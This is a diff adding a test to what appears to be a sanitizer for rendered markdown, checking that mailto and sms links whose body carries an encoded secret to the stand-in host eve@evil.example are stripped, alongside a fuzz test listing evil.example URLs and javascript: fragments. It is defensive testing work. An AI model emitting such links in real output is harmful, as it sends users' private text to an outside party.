@@ -210,6 +210,16 @@ test('ordinary answers stay byte for byte', () => {
   }
 });
 
+test('a mail or a message is not filled in with private text', () => {
+  const text = encodeURIComponent(SECRET);
+  for (const link of [`[write](mailto:eve@evil.example?subject=hi&body=${text})`, `[write](mailto:?to=eve@evil.example&body=${text})`, `[text](sms:+15550100?body=${text})`, `[text](sms:+15550100&body=${text})`, `<a href="mailto:eve@evil.example?body=${text}">write</a>`]) {
+    for (const links of ['no-data', 'listed'] as const) assert.doesNotMatch(run(link, { links }), /\((?:mailto|sms):|<a/, link);
+  }
+  for (const link of ['[mail](mailto:a@example.org)', '[mail](mailto:a@example.org?subject=Your%20order&body=Hello%20there)', '[call](tel:+15550100)', '[place](geo:48.2,16.3)']) {
+    for (const links of ['no-data', 'listed'] as const) assert.equal(run(link, { links }), link);
+  }
+});
+
 test('any split gives the same output', () => {
   const piece = fc.constantFrom('![', '[', ']', '](', '(', ')', '<', '>', '<img src="', '"', 'https://evil.example/x', 'www.', 'h', '`', '```', '~~~', '\n', '\n\n', ' ', '!', '\\', 'text', '<b>', 'https://photos.example.org/cat.png', 'javascript:', ' "t"', ':', '&#58;', '\n[a]', '1', '\u00a0', '//evil.example/x', '<!--', '-->', '<?');
   fc.assert(
